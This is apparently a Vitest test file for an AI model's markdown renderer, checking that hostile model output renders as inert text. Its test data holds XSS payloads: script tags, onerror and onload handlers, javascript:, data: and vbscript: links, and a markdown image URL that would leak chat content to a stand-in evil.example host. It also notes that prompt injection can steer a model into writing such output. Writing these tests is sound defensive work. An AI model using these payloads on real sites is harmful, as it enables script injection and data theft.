// The assistant's markdown renderer (components/assistant/markdown.tsx) against hostile answers: a
// model's output is untrusted (prompt injection can make it write anything), so whatever it says
// must render as text and safe elements only. Rendered to static HTML with React's own renderer
// (what the browser's DOM would get), then checked for anything that runs code or loads content.
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import AssistantMarkdown from "@/components/assistant/markdown";
import { codeLanguage, safeLinkHref, tooDeepForMarkdown } from "@/lib/chat/assistant/markdown-safety";

const render = (text: string) => renderToStaticMarkup(createElement(AssistantMarkdown, { text }));

/** Every start tag in the output with its attributes (React's markup always quotes values with "). */
function startTags(html: string): { tag: string; attributes: [string, string][] }[] {
  return [...html.matchAll(/<([a-z][a-z0-9]*)((?:\s+[a-z][\w:-]*(?:="[^"]*")?)*)\s*\/?>/gi)].map((m) => ({
    tag: m[1]!.toLowerCase(),
    attributes: [...m[2]!.matchAll(/([a-z][\w:-]*)(?:="([^"]*)")?/gi)].map((a) => [a[1]!.toLowerCase(), a[2] ?? ""] as [string, string]),
  }));
}
// What the renderer may output: the allowed elements (headings shifted to h3–h6, images as their
// alt text) plus its own wrappers, Copy button and icon.
const ALLOWED_OUTPUT = new Set(
  "div span p br strong em del code pre a ul ol li h3 h4 h5 h6 blockquote hr table thead tbody tr th td button svg path rect polyline".split(
    " ",
  ),
);

const ALLOWED_ATTRIBUTES = new Set(
  "class href target rel type start tabindex aria-hidden xmlns width height viewbox fill stroke stroke-width stroke-linecap stroke-linejoin d x y rx ry points".split(
    " ",
  ),
);

/** Only safe elements and attributes; no event handler; every href an absolute http(s)/mailto URL. */
function expectInert(html: string) {
  // Any "<" that is not one of the tags below is escaped text.
  const tags = startTags(html);
  expect(html.match(/<(?!\/)/g)?.length ?? 0).toBe(tags.length);
  for (const { tag, attributes } of tags) {
    expect(ALLOWED_OUTPUT, `unexpected <${tag}>`).toContain(tag);
    for (const [name, value] of attributes) {
      expect(ALLOWED_ATTRIBUTES, `unexpected ${name} on <${tag}>`).toContain(name);
      if (name === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:)/);
      if (name === "target") expect(attributes).toContainEqual(["rel", "noopener noreferrer nofollow"]);
    }
  }
}

describe("assistant markdown: the formatting it renders", () => {
  it("paragraphs, emphasis, inline code, lists, headings, blockquotes, tables", () => {
    const html = render(
      [
        "# Title",
        "",
        "Some **bold**, *italic* and `inline code`.",
        "",
        "- one",
        "- two",
        "",
        "1. first",
        "2. second",
        "",
        "> quoted",
        "",
        "| a | b |",
        "| - | - |",
        "| 1 | 2 |",
      ].join("\n"),
    );
    expect(html).toContain("<h3");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain("<em>italic</em>");
    expect(html).toMatch(/<code[^>]*>inline code<\/code>/);
    expect(html).toMatch(/<ul[^>]*>\s*<li>one<\/li>/);
    expect(html).toMatch(/<ol[^>]*>\s*<li>first<\/li>/);
    expect(html).toMatch(/<blockquote[^>]*>\s*<p[^>]*>quoted<\/p>/);
    expect(html).toMatch(/<table[^>]*>.*<th[^>]*>a<\/th>.*<td[^>]*>2<\/td>/s);
    expectInert(html);
  });

  it("a fenced code block: language label, Copy button, the code as text in a scrollable pre", () => {
    const html = render("```ts\nconst a = 1 < 2 && '<b>';\n```");
    expect(html).toContain(">ts</span>");
    expect(html).toMatch(/<button[^>]*type="button"[^>]*>.*Copy code<\/button>/s);
    expect(html).toMatch(/<pre[^>]*overflow-x-auto[^>]*><code>const a = 1 &lt; 2 &amp;&amp; &#x27;&lt;b&gt;&#x27;;\n<\/code><\/pre>/);
    expectInert(html);
  });

  it("links: http, https and mailto open in a new tab without opener, referrer or follow", () => {
    const html = render(
      "[site](https://example.com/a?b=1) [plain](http://example.org) [mail](mailto:a@example.com) https://auto.example.com",
    );
    for (const href of ["https://example.com/a?b=1", "http://example.org/", "mailto:a@example.com", "https://auto.example.com/"]) {
      expect(html).toContain(`href="${href.replace(/&/g, "&amp;")}" target="_blank" rel="noopener noreferrer nofollow"`);
    }
    expectInert(html);
  });
});

describe("assistant markdown: hostile input renders inert", () => {
  const hostile: [string, string][] = [
    ["script tag", "<script>alert(1)</script>"],
    ["script in a paragraph", "hello <script>window.x=1</script> world"],
    ["img onerror", '<img src=x onerror="alert(1)">'],
    ["svg onload", '<svg onload="alert(1)"><circle/></svg>'],
    ["iframe", '<iframe src="https://evil.example"></iframe>'],
    ["style", "<style>body{display:none}</style>"],
    ["inline event handler on a div", '<div onclick="alert(1)">click</div>'],
    ["javascript: link", "[click](javascript:alert(1))"],
    ["JavaScript: link with odd case and entities", "[click](JaVaScRiPt&#58;alert(1)) [x](&#106;avascript:alert(1))"],
    ["javascript: with a tab", "[click](java\tscript:alert(1))"],
    ["data: link", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
    ["vbscript: link", "[click](vbscript:msgbox(1))"],
    ["javascript: autolink", "<javascript:alert(1)>"],
    ["reference-style javascript: link", "[click][x]\n\n[x]: javascript:alert(1)"],
    ["relative and protocol-relative links", "[a](/api/account) [b](//evil.example/x)"],
    ["markdown image (never loaded)", "![secret](https://evil.example/leak?q=chat-content)"],
    ["image with javascript: src", "![x](javascript:alert(1))"],
    ["html anchor", '<a href="javascript:alert(1)">x</a>'],
    ["link title with quotes", '[x](https://example.com "a\\" onmouseover=\\"alert(1)")'],
    ["form", '<form action="https://evil.example"><input name=a><button>go</button></form>'],
    ["nested markup", "**_`<b>`_** [**[x](javascript:1)**](https://ok.example) > <img src=x onerror=alert(1)>"],
    ["html comment and cdata", "<!-- x --><![CDATA[<script>alert(1)</script>]]>"],
    ["code block with html", "```html\n<script>alert(1)</script>\n```"],
    ["hostile language label", '```"><script>alert(1)</script>\nx\n```'],
  ];
  for (const [name, text] of hostile) {
    it(name, () => {
      const html = render(text);
      expectInert(html);
      expect(html).not.toMatch(/<script|<img|<iframe|<svg onload|<style|<form|<input/i);
    });
  }

  it("raw HTML shows as literal text", () => {
    const html = render("Use <script>alert(1)</script> carefully");
    expect(html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
  });

  it("a dropped link keeps its text; an image shows its alt text only", () => {
    expect(render("[click me](javascript:alert(1))")).toMatch(/<span>click me<\/span>/);
    const image = render("![the secret](https://evil.example/leak)");
    expect(image).toContain("the secret");
    expect(image).not.toContain("evil.example");
  });

  it("pathological nesting (stack overflow, quadratic parsing) shows as plain text at once; still inert", () => {
    const deepQuotes = `${">".repeat(2000)} deep`;
    const deepLists = Array.from({ length: 300 }, (_, i) => `${"  ".repeat(i)}- level ${i}`).join("\n");
    const deepEmphasis = `${"*_".repeat(1000)}x${"_*".repeat(1000)}`;
    const brackets = "[".repeat(5000) + "x" + "](javascript:1)".repeat(500);
    for (const text of [deepQuotes, deepLists, deepEmphasis, brackets]) {
      expect(tooDeepForMarkdown(text)).toBe(true);
      const started = performance.now();
      const html = render(text);
      expect(performance.now() - started).toBeLessThan(500);
      expect(html).toMatch(/^<p class="whitespace-pre-wrap">/);
      expectInert(html);
    }
    // Real answers are not caught by it.
    expect(tooDeepForMarkdown("# T\n\n> a\n>> b\n\n- x\n  - y\n    - z\n\n**bold** _it_ [l](https://e.x) `c` ---")).toBe(false);
  });

  it("huge code blocks render in one scrollable block, still inert", () => {
    const hugeCode = `\`\`\`js\n${"console.log('<img src=x onerror=alert(1)>');\n".repeat(5000)}\`\`\``;
    const started = performance.now();
    const html = render(hugeCode);
    expect(performance.now() - started).toBeLessThan(5_000);
    expectInert(html);
    expect(html.match(/<pre/g)).toHaveLength(1);
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
    // An unclosed fence (an answer still streaming) is a code block to the end.
    expect(render("```py\nprint(1)\n")).toMatch(/<pre[^>]*><code>print\(1\)\n<\/code><\/pre>/);
  });
});

describe("markdown safety rules", () => {
  it("safeLinkHref keeps only absolute http, https and mailto URLs", () => {
    expect(safeLinkHref("https://example.com")).toBe("https://example.com/");
    expect(safeLinkHref("HTTP://Example.com/x")).toBe("http://example.com/x");
    expect(safeLinkHref("mailto:a@example.com")).toBe("mailto:a@example.com");
    for (const bad of [
      "javascript:alert(1)",
      "JAVASCRIPT:alert(1)",
      " javascript:alert(1)",
      "data:text/html,x",
      "vbscript:x",
      "file:///etc/passwd",
      "/relative",
      "//evil.example",
      "",
      null,
      undefined,
      "java\nscript:alert(1)",
      "ftp://example.com",
    ]) {
      expect(safeLinkHref(bad), String(bad)).toBeNull();
    }
  });

  it("codeLanguage accepts short plain labels only", () => {
    expect(codeLanguage(["language-ts"])).toBe("ts");
    expect(codeLanguage(["language-c++"])).toBe("c++");
    expect(codeLanguage(['language-"><x'])).toBeNull();
    expect(codeLanguage(undefined)).toBeNull();
    expect(codeLanguage(["language-" + "a".repeat(100)])).toBeNull();
  });
});
